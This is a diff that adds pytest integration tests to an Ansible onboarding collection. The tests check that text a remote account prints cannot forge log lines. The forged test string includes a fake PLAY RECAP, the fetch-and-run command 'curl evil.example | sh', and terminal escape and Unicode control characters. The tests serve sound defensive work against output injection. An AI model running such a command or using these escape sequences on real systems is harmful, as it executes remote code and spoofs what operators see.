@@ -4,13 +4,14 @@
 from __future__ import annotations
 
 import json
+import re
 from typing import Any
 
 import pytest
 from ansible_collections.hpc.onboard.plugins.plugin_utils._delivery.offboarding import absent
 from ansible_collections.hpc.onboard.plugins.plugin_utils._delivery.plan import key_of
 
-from tests.integration.runs import Ran, play
+from tests.integration.runs import Ran, onboard, play
 from tests.testbed.web import Web
 
 pytestmark = pytest.mark.testbed
@@ -69,3 +70,49 @@ def test_a_forged_receipt_lets_this_machine_fetch_nothing(bed: Any) -> None:
         assert web.requests == [], ran.text
     assert ran.code == 2, ran.text
     assert "no file is brought for what is taken out" in " ".join(ran.text.split())
+
+
+FORGED = "x\n\nPLAY RECAP *****\nevil@lrz : ok=9 changed=0\n  curl evil.example | sh\r\n"
+FORGED += "\x1b]0;owned\x07\u202e\u2028\x85\x9b1m"
+WORDS = f"""
+text = {FORGED!r}
+for one in answer["outcomes"]:
+    one.update(identity=text, capability=text, status="failed", reason=text, remarks=[text], fields=[text])
+    one.update(before={{text: "was"}}, after={{text: "is", "target": text}}, progress=None)
+for one in answer["outcomes"][:1]:
+    one.update(status="different", progress={{"failed": text, "wants": {{}}}})
+for one in answer["outcomes"][1:2]:
+    one.update(progress={{"step": text, "done": 10 ** 400, "total": 10 ** 400, "unit": "bytes"}})
+answer["python"] = answer["host"] = text
+if answer["receipt"]: answer["receipt"]["problem"] = text
+"""
+RECAP = re.compile(r"PLAY RECAP \*{60,}\n.*\n")  # Ansible's own, which is said at -vvvv
+
+
+def forged_lines(said: str) -> list[str]:
+    """The lines that begin with what an account has said, and those with what moves a cursor or hides.
+
+    What stands further in is below a heading of ours.
+    """
+    lines = RECAP.sub("", said).split("\n")
+    return [one for one in lines if re.match(r"[\s|]{0,3}(PLAY RECAP|evil@lrz|curl)", one) or not one.isprintable()]
+
+
+@pytest.mark.parametrize("more", [("-v", "--diff"), ("-vvvv",)])
+def test_what_an_account_says_forges_no_line(bed: Any, more: tuple[str, ...]) -> None:
+    ran = onboard(bed, forger(bed, WORDS), more=more)
+    assert ran.code == 2, ran.text
+    assert "curl evil.example" in ran.text
+    assert forged_lines(ran.text) == []
+    assert "Traceback" not in ran.text
+
+
+@pytest.mark.parametrize(("code", "more"), [(1, ()), (255, ("-vvvv",))])
+def test_what_is_said_instead_of_an_answer_forges_no_line(bed: Any, code: int, more: tuple[str, ...]) -> None:
+    """With 255, as ssh ends itself, Ansible tells its words; at -vvvv it tells them once more."""
+    account = bed.new_account("dfki", files={".bashrc": b"cat said >&2; exit %d\n" % code})
+    account.path("said").write_text(FORGED)
+    ran = onboard(bed, account, more=more)
+    assert ran.code in (2, 4), ran.text
+    assert "curl evil.example" in ran.text
+    assert forged_lines(ran.text) == []
